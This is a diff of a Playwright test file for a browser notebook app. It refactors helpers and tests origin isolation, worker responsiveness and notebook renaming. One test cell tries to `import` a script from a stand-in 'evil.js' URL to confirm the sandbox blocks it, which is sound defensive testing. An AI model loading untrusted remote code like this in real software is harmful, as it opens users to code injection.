@@ -1,16 +1,8 @@
 import { expect, test, type Page } from "@playwright/test";
 import { createProject, joinAsViewer, signUp, uniqueEmail } from "./helpers";
+import { cellSource, createNotebook, notebookCell, runCell } from "./notebookHelpers";
 
-const source = (page: Page, n: number) => page.getByLabel(`Cell ${n} source`);
-const cell = (page: Page, n: number) => page.getByTestId(`cell-${n}`);
 const notebookList = (page: Page) => page.getByRole("list", { name: "Notebooks" });
-
-/** Types into cell n and runs it with Shift+Enter, as a user would. */
-async function runCell(page: Page, n: number, code: string) {
-  await source(page, n).click();
-  await source(page, n).fill(code);
-  await source(page, n).press("Shift+Enter");
-}
 
 /** Signs up, creates a project and returns its URL. */
 async function newProject(page: Page, name: string): Promise<string> {
@@ -18,35 +10,29 @@ async function newProject(page: Page, name: string): Promise<string> {
   return createProject(page, name);
 }
 
-async function newNotebook(page: Page, name: string) {
-  await page.getByLabel("New notebook name").fill(name);
-  await page.getByRole("button", { name: "New notebook" }).click();
-  await expect(page.getByTestId("notebook-name")).toHaveText(name);
-}
-
 test("notebook: cell code cannot load code or data from other origins; same-origin TF.js wasm still works", async ({ page }) => {
   await newProject(page, "Safety");
-  await newNotebook(page, "Origins");
+  await createNotebook(page, "Origins");
 
   // import() is not covered by the fetch guard: the worker's Content-Security-Policy refuses it.
   await runCell(page, 1, 'const before = 1;\nconst mod = await import("https://example.com/evil.js");\ndisplay.text("loaded " + typeof mod);');
-  await expect(cell(page, 1).getByTestId("cell-error")).toHaveText(
+  await expect(notebookCell(page, 1).getByTestId("cell-error")).toHaveText(
     "Line 2: SecurityError: Loading code or data from other origins is not allowed in notebooks (blocked https://example.com/evil.js).",
     // The first cell waits while a fresh browser measures its TF.js backends (once; then remembered).
     { timeout: 60_000 },
   );
-  await expect(cell(page, 1).getByTestId("cell-outputs")).not.toContainText("loaded");
+  await expect(notebookCell(page, 1).getByTestId("cell-outputs")).not.toContainText("loaded");
 
   // A load the guard never sees (a web font in the worker) is refused by the browser too.
   await runCell(page, 2, 'const face = new FontFace("probe", "url(https://example.com/f.woff2)");\nawait face.load();');
-  await expect(cell(page, 2).getByTestId("cell-error")).toContainText(
+  await expect(notebookCell(page, 2).getByTestId("cell-error")).toContainText(
     "Loading code or data from other origins is not allowed in notebooks (blocked https://example.com/f.woff2)",
   );
 
   // Loading a model from the web goes through fetch, which names the line too.
   await runCell(page, 3, 'await tf.loadLayersModel("https://example.com/model.json");');
-  await expect(cell(page, 3).getByTestId("cell-error")).toContainText("Line 1:");
-  await expect(cell(page, 3).getByTestId("cell-error")).toContainText("not allowed in notebooks (blocked https://example.com/model.json)");
+  await expect(notebookCell(page, 3).getByTestId("cell-error")).toContainText("Line 1:");
+  await expect(notebookCell(page, 3).getByTestId("cell-error")).toContainText("not allowed in notebooks (blocked https://example.com/model.json)");
 
   // The policy keeps what notebooks need: eval'd cells, same-origin data and the wasm backend.
   await runCell(
@@ -56,12 +42,12 @@ test("notebook: cell code cannot load code or data from other origins; same-orig
 const ok = await tf.setBackend("wasm");
 display.text(\`\${ok} \${tf.getBackend()} \${tf.tensor(iris.column("sepal_length_cm")).sum().dataSync()[0].toFixed(1)} \${new Function("return 7")()}\`);`,
   );
-  await expect(cell(page, 4).getByTestId("cell-outputs")).toHaveText("true wasm 876.5 7");
+  await expect(notebookCell(page, 4).getByTestId("cell-outputs")).toHaveText("true wasm 876.5 7");
 });
 
 test("notebook: the page stays responsive while a cell trains a model in the worker", async ({ page }) => {
   await newProject(page, "Responsive");
-  await newNotebook(page, "Training");
+  await createNotebook(page, "Training");
 
   // Trains for a fixed wall time whatever the backend's speed, so the test never depends on it.
   // On wasm with yieldEvery "never" the loop only awaits settled promises: were it on the page
@@ -79,7 +65,7 @@ let epochs = 0;
 await model.fit(xs, ys, { epochs: 10000, batchSize: 64, yieldEvery: "never", callbacks: { onEpochEnd: () => { epochs += 1; if (performance.now() - started > 15000) model.stopTraining = true; } } });
 display.text(\`trained \${epochs} epochs\`);`,
   );
-  const status = cell(page, 1).getByTestId("execution-count");
+  const status = notebookCell(page, 1).getByTestId("execution-count");
   await expect(status).toContainText("[*]");
 
   // Animation frames keep coming: the page thread is not the one training.
@@ -99,22 +85,22 @@ display.text(\`trained \${epochs} epochs\`);`,
   expect(frames).toBeGreaterThan(20);
 
   // The user can keep working: Shift+Enter opened cell 2 in edit mode; type in it and add a cell.
-  await expect(source(page, 2)).toBeFocused();
+  await expect(cellSource(page, 2)).toBeFocused();
   await page.keyboard.type("display.text('typed while training')");
-  await expect(source(page, 2)).toHaveText("display.text('typed while training')");
+  await expect(cellSource(page, 2)).toHaveText("display.text('typed while training')");
   await page.getByRole("button", { name: "Add code cell" }).click();
-  await expect(source(page, 3)).toBeVisible();
+  await expect(cellSource(page, 3)).toBeVisible();
   await expect(status).toContainText("[*]");
 
-  await expect(cell(page, 1).getByTestId("cell-outputs")).toContainText(/trained \d+ epochs/, { timeout: 60_000 });
+  await expect(notebookCell(page, 1).getByTestId("cell-outputs")).toContainText(/trained \d+ epochs/, { timeout: 60_000 });
   await expect(status).toContainText("[1]");
 });
 
 test("notebooks: rename and delete from the project's list and rename from the page, not for viewers", async ({ page, browser }) => {
   const projectUrl = await newProject(page, "Library");
-  await newNotebook(page, "Alpha");
+  await createNotebook(page, "Alpha");
   await page.goto(projectUrl);
-  await newNotebook(page, "Beta");
+  await createNotebook(page, "Beta");
   await page.goto(projectUrl);
   await expect(notebookList(page).getByRole("link")).toHaveCount(2);
 
